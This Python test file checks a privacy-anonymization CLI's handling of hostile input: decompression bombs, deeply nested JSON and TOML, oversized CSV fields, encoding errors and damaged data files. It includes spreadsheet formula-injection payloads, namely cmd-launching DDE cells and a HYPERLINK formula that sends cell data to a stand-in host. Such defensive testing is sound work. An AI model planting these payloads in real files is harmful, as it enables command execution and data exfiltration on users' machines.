DEEP_TOML = "[default]\nskyline = " + "{a=" * 100_000 + "1" + "}" * 100_000 + "\n"
CP1252 = GOOD_TABLE.replace("hiv", "grün").replace("1*,31", "1*,31").encode("cp1252")
FORMULAS = {"=HYPERLINK": '=HYPERLINK("http://x.example/?"&A1)', "+cmd|": "+cmd|' /C calc'!A0",
            "@SUM": "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|": "-2+3+cmd|' /C calc'!A0",
            "a tab": "\t=1+1"}
JSON_QI = {"not JSON": ('["zip", ', "expected a JSON list of column names"),
           "an empty list": ("[]", "expected a JSON list of non-empty column names"),
           "a number": ("[3]", "expected a JSON list of non-empty column names"),
           "a name twice": ('["zip", "zip"]', "a column is named twice")}
ONE_POINT = "[default]\nskyline = [[0, 0, 0, 1]]\n"  # the formula tables: always safe


def _table_of(cells: str) -> str:
    return f"zip,age,disease\n1*,30,{cells}\n1*,31,flu\n2*,40,flu\n2*,41,hiv\n"


def _quoted(cell: str) -> str:
    """A CSV field holding ``cell`` (quotes doubled)."""
    return '"' + cell.replace('"', '""') + '"'


def _release(command: str, table: str, *extra) -> list:
    """A command on the good table's columns; one that releases or certifies a table
    classifies age as kept (published as is)."""
    keep = ["--keep", "age"] if command in ("check", "anonymize", "compare") else []
    return [command, table, "--qi", "zip", "--sensitive", "disease", *keep, *extra]


def script_catalogue() -> dict:
    """name -> Script."""
    cases: dict = {}
    # a decompression bomb (item 5), refused early: a gzip bomb on every command that reads a
    # table, the other archives on the two commands that publish
    for kind in ("gzip", "bz2", "xz", "zip"):
        for command in TABLE_COMMANDS if kind == "gzip" else ("check", "anonymize"):
            cases[f"{command}: a {kind} bomb"] = refused(
                {"bomb.z": _pack(kind, BOMB)}, TABLE_COMMANDS[command]("bomb.z"), "bomb.z",
                f"expands beyond 1,048,576 bytes when {kind}-decompressed (a decompression "
                f"bomb?); set SKYPRIVACY_MAX_DECOMPRESSED", env=LIMIT)
    for command, value in (("check", "abc"), ("check", "0"), ("check", "1.5G"),
                           ("check", "-1"), ("anonymize", "0"), ("verify", "abc")):
        cases[f"{command}: SKYPRIVACY_MAX_DECOMPRESSED={value}"] = refused(
            {"small.gz": gzip.compress(GOOD_TABLE.encode())},
            TABLE_COMMANDS[command]("small.gz"), "small.gz",
            f"SKYPRIVACY_MAX_DECOMPRESSED={value!r} is not a positive size in bytes",
            env=(("SKYPRIVACY_MAX_DECOMPRESSED", value),))
    # a tiny valid confidence (item 5): an answer, never an OverflowError
    for name, toml in TINY.items():
        policy = {"tiny.toml": f"[default]\nskyline = [[0, 0, 0, {toml}]]\n"}
        cases[f"check: c = {name} in the policy"] = answered(
            policy, _release("check", "good.csv", "--policy", "tiny.toml"), 1, "UNSAFE: 3 of 3")
        cases[f"anonymize: c = {name} in the policy"] = refused(
            policy, _release("anonymize", "good.csv", "--policy", "tiny.toml", "--output",
                             "out.csv"), "'cold'", "no generalization can satisfy the policy",
            code=1)
        arg = TINY_ARG[name]
        shown = "1e-320" if name == "1e-320" else "1e-300" if "300" in name else "1/1000"
        cases[f"find: --confidence {name}"] = answered(
            {}, _release("find", "good.csv", "--confidence", arg), 0,
            f"Knowledge skylines at confidence c = {shown}")
        cases[f"compare: --confidence {name}"] = answered(
            {}, _release("compare", "good.csv", "--k-anonymity", "2", "--confidence", arg), 0,
            f"Knowledge skylines at confidence c = {shown}")
        cases[f"check: --report-confidence {name}"] = answered(
            {}, _release("check", "good.csv", "--policy", "good.toml", "--report", "out.html",
                         "--report-confidence", arg), 0, "SAFE: all 3", writes=("out.html",))
    cases["verify: a certificate of c = 1e-320 (unsafe, honest)"] = answered(
        {}, ["verify", "good.csv", "--certificate", "tiny.json"], 0, "VERIFIED")
    cases["verify --require-safe: a certificate of c = 1e-320"] = answered(
        {}, ["verify", "good.csv", "--certificate", "tiny.json", "--require-safe"], 1,
        "VERIFIED", warning="NOT SAFE: the certificate verifies, but its verdict is 'unsafe'; "
                            "--require-safe asks for 'safe'")
    # a CSV field over 128 KiB (item 5): read, never '_csv.Error: field larger than ...'
    long_cell = {"long.csv": _table_of("x" * BIG)}
    long_name = {"long.csv": GOOD_TABLE.replace("disease\n", f"disease,{'n' * BIG}\n")
                 .replace("flu\n", "flu,a\n").replace("cold\n", "cold,b\n")
                 .replace("hiv\n", "hiv,c\n")}
    cases["check: a cell over 128 KiB"] = answered(
        long_cell, _release("check", "long.csv", "--policy", "good.toml"), 0, "SAFE: all")
    cases["check: a column name over 128 KiB"] = answered(
        long_name, _release("check", "long.csv", "--policy", "good.toml", "--keep-rest"), 0,
        "SAFE: all")  # a name over 128 KiB cannot be an argument: --keep-rest classifies it
    cases["anonymize: a cell over 128 KiB"] = answered(
        long_cell, _release("anonymize", "long.csv", "--policy", "good.toml", "--output",
                            "out.csv"), 0, "SAFE: all", writes=("out.csv", "out.cert.json"))
    cases["find: a cell over 128 KiB"] = answered(
        long_cell, _release("find", "long.csv", "--confidence", "0.9"), 0,
        "Knowledge skylines")
    cases["compare: a column name over 128 KiB"] = answered(
        long_name, _release("compare", "long.csv", "--k-anonymity", "2", "--keep-rest"), 0,
        "2-anonymous")
    cases["risk: a cell over 128 KiB"] = answered(
        long_cell, ["risk", "long.csv", "--qi", "zip"], 0, "Prosecutor risk")
    cases["transparency check: a cell over 128 KiB"] = answered(
        {"rules.csv": RULES.replace("F,a,3", f"F,{'a' * BIG},3")},
        good("transparency check"), 0, "SAFE: the true rule is beta-private",
        writes=("out.json",))
    # JSON nested 100,000 deep (item 5): refused before it is parsed
    for command, base in (("verify", "good.json"), ("transparency verify", "rule.json")):
        argv = replaced(TABLE_COMMANDS[command](GOOD_INPUT.get(command, "good.csv")), base,
                        "deep.json")
        cases[f"{command}: a certificate of 100,000 nested objects"] = refused(
            {"deep.json": DEEP_OBJECTS}, argv, "deep.json",
            "nests arrays or objects 100000 levels deep; at most 100 are read")
        cases[f"{command}: a field nested 100,000 deep"] = refused(
            {"deep.json": ("<append>", base, '"notes": ' + "[" * 100_000 + "]" * 100_000)},
            argv, "deep.json",
            "nests arrays or objects 100001 levels deep; at most 100 are read")
    for command in ("check", "anonymize"):
        cases[f"{command}: a policy of 100,000 nested tables"] = refused(
            {"deep.toml": DEEP_TOML}, replaced(good(command), "good.toml", "deep.toml"),
            "deep.toml", "nests arrays or objects 100000 levels deep; at most 100 are read")
    # encodings (item 9)
    utf16 = {"u.csv": GOOD_TABLE.encode("utf-16")}
    for command, extra, stdout, writes in (
            ("check", ["--policy", "good.toml"], "SAFE: all", ()),
            ("anonymize", ["--policy", "good.toml", "--output", "out.csv"], "SAFE: all",
             ("out.csv", "out.cert.json")),
            ("find", ["--confidence", "0.9"], "Knowledge skylines", ()),
            ("compare", ["--k-anonymity", "2"], "2-anonymous", ())):
        cases[f"{command}: Excel's Unicode text (UTF-16 with its mark)"] = answered(
            utf16, _release(command, "u.csv", *extra), 0, stdout, writes=writes)
    cases["risk: Excel's Unicode text (UTF-16 with its mark)"] = answered(
        utf16, ["risk", "u.csv", "--qi", "zip"], 0, "Prosecutor risk")
    cases["transparency check: UTF-16 with its mark"] = answered(
        {"rules.csv": RULES.encode("utf-16")}, good("transparency check"), 0,
        "SAFE: the true rule is beta-private", writes=("out.json",))
    for name, data in (("UTF-16 big-endian with its mark",
                        codecs.BOM_UTF16_BE + GOOD_TABLE.encode("utf-16-be")),
                       ("UTF-32 with its mark", GOOD_TABLE.encode("utf-32")),
                       ("gzip of UTF-16", gzip.compress(GOOD_TABLE.encode("utf-16")))):
        cases[f"check: {name}"] = answered(
            {"u.csv": data}, _release("check", "u.csv", "--policy", "good.toml"), 0,
            "SAFE: all")
    cases["check: cp1252 read with --encoding cp1252"] = answered(
        {"w.csv": CP1252}, _release("check", "w.csv", "--policy", "good.toml", "--encoding",
                                    "cp1252"), 0, "grün")
    for command in ("check", "anonymize", "verify", "transparency verify"):
        table = "w.csv"
        files = {table: CP1252 if command != "transparency verify" else
                 RULES.replace("F,a,", "F,\xe4,").encode("cp1252")}
        cases[f"{command}: cp1252 text without --encoding"] = refused(
            files, TABLE_COMMANDS[command](table), table,
            "is not UTF-8 text: byte 0x" + ("fc at line 5, byte 9" if command !=
                                            "transparency verify" else
                                            "e4 at line 2, byte 3")
            + "; pass --encoding cp1252 if")
    for command in ("check", "anonymize"):
        cases[f"{command}: UTF-16 without a byte-order mark"] = refused(
            {"u.csv": GOOD_TABLE.encode("utf-16-le")}, TABLE_COMMANDS[command]("u.csv"),
            "u.csv", "looks like UTF-16 text without a byte-order mark; pass --encoding "
                     "utf-16-le")
    for command in TABLE_COMMANDS:
        cases[f"{command}: an unknown --encoding"] = refused(
            {}, [*good(command), "--encoding", "klingon"], "--encoding",
            "unknown text encoding 'klingon'", code=2)
    cases["check: --encoding rot13 (not a text encoding)"] = refused(
        {}, [*good("check"), "--encoding", "rot13"], "--encoding",
        "unknown text encoding 'rot13'", code=2)
    cases["check: --encoding ascii on UTF-8 text"] = refused(
        {"u.csv": _table_of("grün")}, [*TABLE_COMMANDS["check"]("u.csv"), "--encoding",
                                        "ascii"], "u.csv",
        "is not ascii text: byte 0xc3 at line 2, byte 9; check --encoding")
    cases["check: --encoding utf-32 on UTF-8 text"] = refused(
        {}, [*good("check"), "--encoding", "utf-32"], "good.csv",
        "is not utf-32 text: byte 0x7a at line 1, byte 1")
    # formula cells (item 7): published as they are, with one warning naming the first
    for name, cell in FORMULAS.items():
        cases[f"anonymize: a formula cell {name}"] = answered(
            {"f.csv": _table_of(_quoted(cell)), "one.toml": ONE_POINT},
            _release("anonymize", "f.csv", "--policy", "one.toml", "--output", "out.csv"), 0,
            "SAFE: all", warning="cell(s) of the CSV output start like a spreadsheet formula "
                                 f"(first: {cell[:40]!r} in column 'disease')",
            writes=("out.csv", "out.cert.json"))
    cases["compare: a formula cell in the released table"] = answered(
        {"f.csv": _table_of(_quoted(FORMULAS["=HYPERLINK"]))},
        _release("compare", "f.csv", "--k-anonymity", "2", "--output", "out.csv"), 0,
        "2-anonymous", warning="start like a spreadsheet formula",
        writes=("out.csv",))
    # the opt-in escape (item 7): the same cells published as text, no warning
    for name, cell in FORMULAS.items():
        cases[f"anonymize --escape-formulas: a formula cell {name}"] = answered(
            {"f.csv": _table_of(_quoted(cell)), "one.toml": ONE_POINT},
            _release("anonymize", "f.csv", "--policy", "one.toml", "--output", "out.csv",
                     "--escape-formulas"), 0, "SAFE: all", writes=("out.csv", "out.cert.json"))
    # column names holding a comma (item 9): --qi as a JSON list
    commas = {"c.csv": GOOD_TABLE.replace("zip,", '"zip, coarse",', 1)}
    cases["check: a QI named with a comma, as a JSON list"] = answered(
        commas, ["check", "c.csv", "--qi", '["zip, coarse"]', "--sensitive", "disease",
                 "--keep", "age", "--policy", "good.toml"], 0, "SAFE: all")
    for command in ("check", "anonymize", "find", "compare"):
        for name, (text, says) in JSON_QI.items():
            if command != "check" and name not in {"anonymize": ("not JSON", "a name twice"),
                                                   "find": ("an empty list",),
                                                   "compare": ("a number",)}[command]:
                continue
            cases[f"{command}: --qi as JSON, {name}"] = refused(
                {}, with_option(good(command), "--qi", text), "--qi", says, code=2)
    cases["risk: --qi as JSON, not JSON"] = refused(
        {}, ["risk", "good.csv", "--qi", '["zip"'], "--qi", "expected a JSON list", code=2)
    cases["check: --qi as JSON naming a column that is not there"] = refused(
        commas, ["check", "c.csv", "--qi", '["zip,coarse"]', "--sensitive", "disease",
                 "--policy", "good.toml"], "'zip,coarse'",
        "is not in the table; columns are ['zip, coarse', 'age', 'disease']")
    # SAS, SPSS, Stata and Excel inputs (item 9): damaged files are one line
    for name, what in ((".sav", "SPSS data file"), (".dta", "Stata data file"),
                       (".sas7bdat", "SAS data set"), (".xpt", "SAS transport file")):
        cases[f"check: a damaged {name}"] = refused(
            {f"t{name}": b"garbage" * 20}, TABLE_COMMANDS["check"](f"t{name}"), f"t{name}",
            f"is not a readable {what}")
    cases["check: a damaged .xlsx"] = refused(
        {"t.xlsx": _xlsx_like()}, TABLE_COMMANDS["check"]("t.xlsx"), "t.xlsx",
        "is not a readable Excel workbook")
    cases["check: an SPSS file"] = answered(
        {}, _release("check", "good.sav", "--policy", "good.toml"), 0, "SAFE: all")
    cases["check: an Excel workbook"] = answered(
        {}, _release("check", "good.xlsx", "--policy", "good.toml"), 0, "SAFE: all")
    # anonymize --individual (item 9): one row per person and value; its faults are one line
    people = {"mv.csv": "pid,zip,age,disease\na,1*,30,flu\na,1*,30,hiv\nb,1*,31,flu\n"
                        "c,2*,40,cold\nd,2*,41,flu\n"}
    person = _release("anonymize", "mv.csv", "--policy", "good.toml", "--output", "out.csv",
                      "--individual", "pid")
    cases["anonymize --individual: svpi"] = refused(
        people, person, "--individual", "pass --semantics mvpi-set or mvpi-multiset", code=2)
    cases["anonymize --individual: a person with two zips"] = refused(
        {"mv.csv": people["mv.csv"].replace("b,1*", "a,3*")},
        [*person, "--semantics", "mvpi-set"], "mv.csv",
        "individual 'a' has 2 different 'zip' cells ('1*', '3*')")
    cases["anonymize --individual: --bucketized"] = refused(
        people, [*person, "--semantics", "mvpi-set", "--bucketized"], "--individual",
        "works with a generalized release (not --bucketized)", code=2)
    cases["anonymize --individual: a value twice for a person in mvpi-set"] = refused(
        {"mv.csv": people["mv.csv"].replace("a,1*,30,hiv", "a,1*,30,flu")},
        [*person, "--semantics", "mvpi-set"], "mv.csv", "flu")
    return cases


def _xlsx_like() -> bytes:
    """A zip that names itself a workbook ([Content_Types].xml, xl/) but holds no sheet."""
    import io
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "not xml")
    return buffer.getvalue()


SCRIPT_CASES = script_catalogue()


def test_the_script_catalogue_adds_at_least_95_distinct_cases():
    assert len(SCRIPT_CASES) >= 95
    distinct = {json.dumps([sorted((k, repr(v)) for k, v in case.files.items()), case.argv,
                            case.env]) for case in SCRIPT_CASES.values()}
    assert len(distinct) == len(SCRIPT_CASES)


def run_scripts(cases: dict, folders: dict, extra_env: dict | None = None) -> dict:
    """Run each case's console script in its folder, a few at a time: name -> (code, stdout,
    stderr, snapshot before, snapshot after)."""
    from concurrent.futures import ThreadPoolExecutor

    def one(name):
        case, folder = cases[name], folders[name]
        for file, spec in case.files.items():
            _write(folder, file, spec)
        before = _snapshot(folder)
        env = {**os.environ, **dict(case.env), **(extra_env or {})}
        done = subprocess.run([SCRIPT, *case.argv], cwd=folder, capture_output=True,
                              text=True, timeout=300, env=env)
        return name, (done.returncode, done.stdout, done.stderr, before, _snapshot(folder))

    with ThreadPoolExecutor(max_workers=3) as pool:
        return dict(pool.map(one, list(cases)))


def assert_outcome(case: Script, outcome) -> None:
    code, stdout, stderr, before, after = outcome
    lines = stderr.strip().splitlines()
    assert "Traceback" not in stderr and "internal error" not in stderr, stderr
    assert code == case.code, (case.argv, code, stderr)
    if case.refused:
        assert stdout == "", stdout
        assert len(lines) == 1, stderr
        assert case.named in lines[0] and case.says in lines[0], (case.named, case.says, stderr)
        assert after == before  # nothing written, no temporary file, every input unchanged
        return
    assert case.named in stdout, (case.named, stdout[:2000])
    assert lines == [] if not case.says else (len(lines) == 1 and case.says in lines[0]), stderr
    assert {k: v for k, v in after.items() if k in before} == before  # inputs unchanged
    assert sorted(set(after) - set(before)) == sorted(case.writes)


@pytest.fixture(scope="module")
def script_outcomes(request, good_files, tmp_path_factory):
    """Every selected case of test_on_the_console_script, run once (a few at a time)."""
    wanted = [item.callspec.params["name"] for item in request.session.items
              if getattr(item, "originalname", None) == "test_on_the_console_script"
              and item.module is request.module]
    folders = {}
    extras = _extra_good_files(good_files, tmp_path_factory.mktemp("extra"))
    for name in wanted:
        folder = tmp_path_factory.mktemp("case")
        for file, data in {**good_files, **extras}.items():
            (folder / file).write_bytes(data)
        folders[name] = folder
    return run_scripts({name: SCRIPT_CASES[name] for name in wanted}, folders)


def _extra_good_files(good_files: dict, folder: Path) -> dict:
    """A certificate of good.csv under a policy of c = 1e-320 (honest: verdict unsafe), and
    good.csv as an SPSS file and an Excel workbook."""
    import pandas as pd
    import pyreadstat

    (folder / "good.csv").write_bytes(good_files["good.csv"])
    (folder / "tiny.toml").write_text("[default]\nskyline = [[0, 0, 0, 1e-320]]\n")
    assert main(["check", str(folder / "good.csv"), "--qi", "zip", "--sensitive", "disease",
                 "--keep", "age", "--policy", str(folder / "tiny.toml"), "--certificate",
                 str(folder / "tiny.json"), "-q"]) == 1
    frame = pd.read_csv(folder / "good.csv", dtype=str)
    pyreadstat.write_sav(frame, str(folder / "good.sav"))
    frame.to_excel(folder / "good.xlsx", index=False)
    return {name: (folder / name).read_bytes() for name in ("tiny.json", "good.sav",
                                                            "good.xlsx")}


@pytest.mark.parametrize("name", list(SCRIPT_CASES))
def test_on_the_console_script(script_outcomes, name):
    assert_outcome(SCRIPT_CASES[name], script_outcomes[name])
